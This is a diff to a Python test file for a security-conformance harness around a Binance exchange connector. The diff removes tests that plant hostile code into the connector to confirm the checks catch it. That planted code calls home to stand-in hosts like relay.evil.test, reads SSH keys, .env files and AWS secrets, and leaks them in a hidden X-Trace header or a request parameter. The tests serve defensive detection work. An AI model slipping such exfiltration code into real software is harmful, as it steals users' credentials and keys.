@@ -2,22 +2,18 @@
 
 from __future__ import annotations
 
-from collections.abc import Callable, Iterator
+from collections.abc import Iterator
 
 import pytest
 
 from checks.conformance import test_security as checks
-from harness.checking import Failed, Undetermined
+from harness.checking import Undetermined
 from harness.gateway.record import StrayReason
 from harness.lab import Scene
-from harness.plan import calm
 from harness.sandbox.protocol import Backend
 from tests.gateway.tiny import HOST
 from tests.hostile.attack import attack
 from tests.hostile.leaking import Thief, thief
-from tests.zoo.defect import AUTH, EXCHANGE, UTILS, Defect, defect
-from tests.zoo.keeping import PACE, Zoo
-from tests.zoo.planting import behaving, rewritten
 
 REFUSED = "refused, recorded with its first bytes, and a blocker"
 FOUND = "the secret is found where it was sent, and a blocker"
@@ -291,127 +287,3 @@ def test_a_flood_before_the_leak(spy: Thief) -> None:
     assert not seen.places
     with pytest.raises(Undetermined, match="more than the record holds"):
         checks.expect_complete([Scene("trade", seen.record)])
-
-
-# -- from the real connector, seen by the real checks
-
-
-def spoilt(name: str, file: str, owner: str, members: str) -> Defect:
-    return defect(name, checks.test_only_declared_hosts, "", behaving(file, owner, members))
-
-
-def finding(zoo: Zoo, bad: Defect, check: Callable[..., None]) -> Failed:
-    """What the check found, in the second, calm try too; nothing of a secret is in it."""
-    with zoo.bad(bad) as specimen:
-        for pace in (PACE, calm(PACE)):
-            with pytest.raises(Failed) as found:
-                specimen.check(check, pace)
-        told = found.value.summary + "".join(each.model_dump_json() for each in found.value.evidence)
-        assert specimen.lab.canaries.redact(told) == told
-    assert found.value.evidence
-    return found.value
-
-
-@attack(
-    "calls home only when its exchange is down for maintenance",
-    meets="every scenario counts: the finding names the host and the story",
-)
-def test_a_call_home_in_one_story_only(zoo: Zoo) -> None:
-    bad = spoilt(
-        "calls-home-in-need",
-        EXCHANGE,
-        "BinanceExchange",
-        """
-        async def _api_request(self, *args, **kwargs):
-            import socket
-
-            try:
-                return await super()._api_request(*args, **kwargs)
-            except Exception as error:
-                if "maintenance" in str(error):
-                    socket.getaddrinfo("relay.evil.test", 443)
-                raise
-        """,
-    )
-    found = finding(zoo, bad, checks.test_only_declared_hosts)
-    assert (
-        "tried to reach relay.evil.test, which is not declared (story: take exchange away)" in found.summary
-    )
-    assert found.evidence[0].data["story"] == "take exchange away"
-
-
-@attack(
-    "waits for a moment when no scenario is running, and looks a name up then",
-    meets="a gateway that serves nobody listens between the scenarios",
-)
-def test_a_call_home_between_the_stories(zoo: Zoo) -> None:
-    watcher = """
-import os, socket, threading, time
-def _watch():
-    before = 0
-    for _ in range(100000):
-        now = sum(name.isdigit() for name in os.listdir("/proc"))
-        if now < before:
-            socket.getaddrinfo("idle.evil.test", 443)
-            return
-        before = now
-        time.sleep(0.002)
-threading.Thread(target=_watch, daemon=True).start()
-"""
-    bad = defect(
-        "calls-home-unwatched",
-        checks.test_only_declared_hosts,
-        "",
-        rewritten(UTILS, lambda source: source + watcher),
-    )
-    found = finding(zoo, bad, checks.test_only_declared_hosts)
-    assert "tried to reach idle.evil.test" in found.summary
-    assert found.evidence[0].data["story"] == "between the stories"
-
-
-@attack(
-    "takes the keys it finds in its home and its environment, and sends them to its exchange",
-    meets="they are decoys, searched for in all that leaves: a blocker that names the file",
-)
-@pytest.mark.parametrize("loot", ["~/.ssh/id_ed25519", "~/.env", "$AWS_SECRET_ACCESS_KEY"])
-def test_a_thief_of_files(zoo: Zoo, loot: str) -> None:
-    bad = spoilt(
-        f"thief-{len(loot)}",
-        AUTH,
-        "BinanceAuth",
-        f"""
-        def header_for_authentication(self):
-            import os
-
-            loot = os.path.expandvars(os.path.expanduser({loot!r}))
-            text = open(loot).read() if os.path.exists(loot) else loot
-            return {{**super().header_for_authentication(), "X-Trace": text.encode().hex()[:3000]}}
-        """,
-    )
-    found = finding(zoo, bad, checks.test_secrets_never_leave)
-    assert f"The file or variable decoy {loot} left the connector (header X-Trace" in found.summary
-
-
-@attack(
-    "leaks once, in the first seconds of its life, and behaves from then on",
-    meets="a leak counts at whatever pace and in whichever try it was seen",
-)
-def test_a_leak_that_happens_once(zoo: Zoo) -> None:
-    bad = spoilt(
-        "leaks-once",
-        EXCHANGE,
-        "BinanceExchange",
-        """
-        async def _make_network_check_request(self):
-            import os
-
-            mark = "/tmp/work/done"
-            if not os.path.exists(mark):
-                open(mark, "w").close()
-                await self._api_get(path_url=CONSTANTS.PING_PATH_URL, params={"r": self.secret_key[20:40]})
-            await super()._make_network_check_request()
-        """,
-    )
-    found = finding(zoo, bad, checks.test_secrets_never_leave)
-    assert "The secret binance_api_secret left the connector (url to api.binance.com" in found.summary
-    assert found.evidence[0].data["spelling"] == "plain, 20 of 64 characters"
